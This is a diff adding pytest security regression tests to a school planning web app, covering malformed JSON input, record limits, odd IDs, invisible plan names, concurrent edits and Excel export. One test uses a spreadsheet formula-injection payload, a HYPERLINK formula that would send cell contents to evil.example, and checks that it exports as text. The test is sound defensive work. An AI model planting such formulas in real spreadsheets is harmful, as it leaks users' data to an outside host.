@@ -6,6 +6,8 @@ shown as text everywhere, and every form that changes data needs its CSRF token.
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from sqlalchemy import select
 
@@ -382,3 +384,104 @@ def test_the_exports_file_name_carries_no_part_of_the_plan_name(app, build, make
     assert "X-Injected" not in answer.headers
     assert answer.headers["Content-Disposition"] == f"attachment; filename*=UTF-8''ke-hoach-{plan['id']}.xlsx"
 
+
+
+# --- found by the review, fixed ----------------------------------------------------------
+
+@pytest.mark.parametrize("changes", [
+    [{"kind": ["equip_classrooms"]}], [{"kind": {"a": 1}}],
+    [{"kind": "add_evidence", "criterion": {"$ne": 1}}], [{"kind": "add_evidence", "criterion": ["1.1"]}],
+    [{"kind": "train_teachers", "count": 1, "skill": ["training_account"]}],
+])
+def test_a_list_or_object_where_a_word_belongs_is_refused_naming_it(app, build, schools, changes):
+    own = schools["own"][0]
+    token = build.token(build.user("reviewer", school=own))
+    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
+                                    json={"changes": changes})
+    assert answer.status_code == 400 and answer.json["error"]["fields"]
+
+
+def test_one_change_list_creates_or_updates_at_most_a_thousand_records(app, build, schools):
+    own = schools["own"][0]
+    token = build.token(build.user("reviewer", school=own))
+    http = app.test_client()
+    too_many = http.post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
+                         json={"changes": [{"kind": "equip_classrooms", "count": 600},
+                                           {"kind": "add_lab_computers", "count": 401}]})
+    assert too_many.status_code == 400 and "changes" in too_many.json["error"]["fields"]
+    enough = http.post(f"/api/v1/schools/{own.id}/planner/whatif", headers=bearer(token),
+                       json={"changes": [{"kind": "equip_classrooms", "count": 600},
+                                         {"kind": "add_lab_computers", "count": 400}]})
+    assert enough.status_code == 200
+    names = [action["values"]["name"] for action in enough.json["actions"]
+             if action["collection"] == "rooms" and action["op"] == "create"]
+    assert len(names) == len(set(names))  # each new room under a name of its own
+
+
+def test_odd_plan_and_district_ids_are_never_a_server_error(app, build, make_client, schools):
+    own = schools["own"][0]
+    mine = _plan(app, build, own)
+    page = _signed_in(build, make_client, "principal", school=own)
+    for odd in ("²", "٣", "9" * 30, "-1", "1e3"):
+        assert page.get(f"/schools/{own.id}/planner?plan={odd}").status_code == 200, odd
+        assert page.get(f"/schools/{own.id}/planner/compare?plan={mine['id']}&plan={odd}").status_code == 302, odd
+        saved = page.post(f"/schools/{own.id}/planner/plans", {"name": "X", "plan_id": odd, "repair_equipment": "1"})
+        assert saved.status_code == 302, odd
+    admin = build.token(build.user("admin"))
+    answer = app.test_client().get(f"/api/v1/unit-prices?district_id={'9' * 30}", headers=bearer(admin))
+    assert answer.status_code in (400, 422)
+
+
+@pytest.mark.parametrize("name", ["\u200b\u200b", "\u200b\u2060\ufeff", "a\x00b", "\x07\x1b[31m", " \u00a0 "])
+def test_a_plan_name_that_shows_nothing_is_refused(app, build, schools, name):
+    own = schools["own"][0]
+    token = build.token(build.user("staff", school=own))
+    answer = app.test_client().post(f"/api/v1/schools/{own.id}/planner/plans", headers=bearer(token),
+                                    json={"name": name, "changes": CHANGES})
+    assert answer.status_code == 400, answer.json
+
+
+def test_two_editors_of_one_plan_never_lose_a_change(app, build, make_client, read, schools):
+    own = schools["own"][0]
+    mine = _plan(app, build, own, "Ban đầu")
+    first = _signed_in(build, make_client, "principal", school=own)
+    second = _signed_in(build, make_client, "staff", school=own)
+    base = f"/schools/{own.id}/planner"
+
+    def opened(client) -> str:  # the version the page's save form carries
+        page = client.get(f"{base}?plan={mine['id']}&repair_equipment=1").get_data(as_text=True)
+        return re.search(r'name="version" value="(\d+)"', page).group(1)
+    seen_first, seen_second = opened(first), opened(second)
+    assert second.post(f"{base}/plans", {"name": "Của người thứ hai", "plan_id": str(mine["id"]),
+                                         "version": seen_second, "repair_equipment": "1"}).status_code == 302
+    answer = first.post(f"{base}/plans", {"name": "Của người thứ nhất", "plan_id": str(mine["id"]),
+                                          "version": seen_first, "repair_equipment": "1"})
+    assert answer.status_code == 302 and f"plan={mine['id']}" in answer.headers["Location"]
+    assert _plan_row(read, mine["id"])[0] == "Của người thứ hai"  # kept; the first is told, not silently lost
+    told = first.get(answer.headers["Location"]).get_data(as_text=True)
+    assert "after you opened it" in told or "sau khi bạn mở" in told
+    # Through the API: a stale version (body or If-Match) answers 409 and changes nothing.
+    token = build.token(build.user("principal", school=own))
+    stale = app.test_client().put(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}", headers=bearer(token),
+                                  json={"name": "API", "changes": CHANGES, "version": 1})
+    assert stale.status_code == 409 and stale.json["error"]["code"] == "stale_version"
+    current = app.test_client().get(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}",
+                                    headers=bearer(token)).json["version"]
+    fresh = app.test_client().put(f"/api/v1/schools/{own.id}/planner/plans/{mine['id']}",
+                                  headers={**bearer(token), "If-Match": f'"{current}"'},
+                                  json={"name": "API", "changes": CHANGES})
+    assert fresh.status_code == 200 and fresh.json["version"] == current + 1
+
+
+def test_a_plan_named_like_a_formula_exports_as_text(app, build, make_client, schools):
+    import io
+
+    from openpyxl import load_workbook
+
+    own = schools["own"][0]
+    mine = _plan(app, build, own, '=HYPERLINK("http://evil.example/?"&A2,"Mở")')
+    page = _signed_in(build, make_client, "principal", school=own)
+    book = load_workbook(io.BytesIO(page.get(f"/schools/{own.id}/planner/plans/{mine['id']}/export.xlsx").data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert book.worksheets[0]["A1"].value.startswith("=HYPERLINK")  # shown as typed, as text
